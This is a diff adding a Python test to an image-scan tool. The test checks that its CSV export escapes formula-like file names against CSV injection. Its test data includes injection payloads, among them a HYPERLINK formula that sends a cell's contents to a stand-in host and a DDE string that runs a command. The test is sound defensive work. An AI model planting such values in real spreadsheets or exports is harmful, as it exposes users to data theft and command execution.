@@ -3,6 +3,7 @@ reverdict, the per-actor worker and the driver.  tests/test_scan_ray.py runs the
 
 from __future__ import annotations
 
+import csv
 import dataclasses
 import datetime as _dt
 import hashlib
@@ -17,6 +18,7 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
+from nsfw_core.base import spreadsheet
 from nsfw_core.base.errors import ForbiddenAddress, InvalidURL, TooLarge
 from nsfw_core.base.labels import ADULT, CLASS_NAMES, SAFE, UNKNOWN
 from nsfw_core.base.settings import load_settings
@@ -424,6 +426,33 @@ def test_a_format_1_dataset_is_read_rewritten_in_format_2_and_its_row_numbers_be
         assert reverdict(ds, Thresholds(), None, queuer=Queuer(queue, (UNKNOWN,))).parts_rewritten == 0
     finally:
         queue.close()
+
+
+def test_reverdict_changes_csv_writes_formula_like_sources_as_text(tmp_path):
+    """``--changes FILE`` goes through the spreadsheet writer (issue 29, CSV injection): a source the scan read,
+    such as a file named ``=HYPERLINK(...)``, is written with a leading apostrophe and reads back as it was."""
+    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+               "\tindented", "plain.jpg"]
+    adult = {"porn": 0.9, "sexy": 0.05, "hentai": 0.0, "neutral": 0.05, "drawings": 0.0}
+    ds = ScanDataset(str(tmp_path / "ds"))
+    ds.create_or_open("test")
+    table = _rows([{"source": s, "sha256": _sha(i), **adult} for i, s in enumerate(hostile)])
+    for name, column in judge(table, Thresholds(), 1, now=NOW).items():
+        table = table.set_column(table.schema.get_field_index(name), name, column)
+    ds.write_part(table, new_run_id(NOW), 0)
+    report = reverdict(ds, Thresholds(adult=0.95, safe=0.95), 2)  # adult -> unknown: every row changed
+    assert report.changed == len(hostile)
+    text = report.changes_csv()
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[0] == ["source", "sha256", "old_verdict", "new_verdict", "old_verdict_source", "new_verdict_source",
+                       "adult_score", "safe_score"]
+    written = {row[1]: row[0] for row in rows[1:]}
+    for i, source in enumerate(hostile):
+        cell = written[_sha(i)]
+        assert cell == (source if source == "plain.jpg" else "'" + source)
+        assert spreadsheet.unescape(cell) == source
+    assert all(not row[0].startswith(spreadsheet.TRIGGERS) for row in rows[1:])
+    assert {row[2] for row in rows[1:]} == {ADULT} and {row[3] for row in rows[1:]} == {UNKNOWN}
 
 
 def test_reverdict_counts_only_the_latest_row_of_each_image_and_applies_hash_lists(tmp_path):
